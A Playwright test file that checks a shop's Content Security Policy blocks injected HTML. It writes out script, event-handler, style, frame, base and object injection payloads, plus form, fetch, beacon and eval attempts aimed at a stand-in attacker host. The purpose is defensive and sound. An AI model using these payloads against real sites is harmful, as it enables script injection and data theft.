/** What an attacker who can write into a page's HTML reaches, and that the shop itself needs nothing more. */
import type { Page } from '@playwright/test';
import { collar, goAsGuest } from '../checkout/buying.ts';
import { openPage, untilHydrated } from '../layout/openPage.ts';
import { longUnless } from '../world/longAt.ts';
import { expect, test } from '../world/world.ts';
import { listRefused, openAttacked, watchRefused } from './refused.ts';

const evil = 'https://evil.example';
const mark = 'document.title=`attacked`';
const refusals = /Content Security Policy|TrustedScript|evil\.example|\(csp\)/;

/** What reached the other site, and the page itself. */
async function attack(page: Page, html: string): Promise<{ sent: string[]; title: string }> {
  const sent: string[] = [];
  await page.route(`${evil}/**`, (route) => {
    sent.push(route.request().url());
    return route.fulfill({ body: mark, contentType: 'text/javascript' });
  });
  await watchRefused(page);
  await openAttacked(page, '/help', html);
  return { sent, title: await page.title() };
}

/** One of each way in: the others are refused by the same directives, or by one of the same kind. */
const examples = new Set([
  'an inline script',
  'an event handler',
  'a picture of another site',
  'a style sheet of another site',
  'a frame',
]);

test.describe('A page does not obey what an attacker wrote into its HTML', () => {
  for (const [what, directive, html] of [
    ['an inline script', 'script-src-elem', `<script>${mark}</script>`],
    ['an event handler', 'script-src-attr', `<img alt="" src="/favicon.svg" onload="${mark}">`],
    ['a script of another site', 'script-src-elem', `<script src="${evil}/x.js"></script>`],
    ['a script of the shop that the page did not load', 'script-src-elem', '<script src="/api/products"></script>'],
    ['a picture of another site', 'img-src', `<img alt="" src="${evil}/x.png">`],
    ['a style', 'style-src-elem', '<style>body { display: none }</style>'],
    ['a style sheet of another site', 'style-src-elem', `<link rel="stylesheet" href="${evil}/x.css">`],
    ['a style attribute', 'style-src-attr', '<p style="position:fixed;inset:0">x</p>'],
    ['a frame', 'frame-src', `<iframe title="x" src="${evil}"></iframe>`],
    ['a base address', 'base-uri', `<base href="${evil}">`],
    ['a plugin', 'object-src', `<object data="${evil}/x.swf"></object>`],
  ] as const) {
    test(what, longUnless(examples.has(what)), async ({ page, problems, allowProblems }) => {
      const { sent } = await attack(page, html);
      await expect.poll(() => listRefused(page)).toContain(directive);
      expect(await page.title()).not.toBe('attacked');
      expect(sent).toEqual([]);
      // A refusal in any other test fails it.
      expect(problems.list().join()).toMatch(refusals);
      allowProblems(refusals);
    });
  }
});

test('code in the page can neither evaluate text, nor send what it read to another site', async ({
  page,
  allowProblems,
}) => {
  allowProblems(refusals);
  await attack(page, `<form id="theft" action="${evil}" method="post"></form>`);
  // In a task of the page: what the test evaluates itself is exempt.
  await page.evaluate((url) => {
    setTimeout(() => {
      document.querySelector<HTMLFormElement>('#theft')?.submit();
      void fetch(url).catch(() => undefined);
      navigator.sendBeacon(url, 'x');
      // oxlint-disable-next-line no-eval -- the policy has to refuse it
      globalThis.eval('document.title = "attacked"');
    });
  }, evil);
  await expect
    .poll(() => listRefused(page))
    .toEqual(expect.arrayContaining(['form-action', 'connect-src', 'require-trusted-types-for']));
  expect(await page.title()).not.toBe('attacked');
});

test('from the home page to the checkout, and to the sign-in, nothing of the shop is refused', async ({ page }) => {
  await watchRefused(page);
  const look = async () => {
    await untilHydrated(page);
    expect(await listRefused(page)).toEqual([]);
  };
  await openPage(page, '/');
  await look();
  await page.getByRole('link', { name: 'Adjustable Dog Collar' }).first().click();
  await page.getByRole('button', { name: 'Add to cart' }).click();
  await expect(page.getByRole('banner').getByRole('link', { name: /^Cart, 1 / })).toBeVisible();
  await look();
  await page.goto('/login');
  await expect(page.getByRole('button', { name: 'Log in', exact: true })).toBeEnabled();
  await look();
  await goAsGuest(page, collar);
  await expect(page.getByRole('main')).toContainText('Email');
  await look();
});
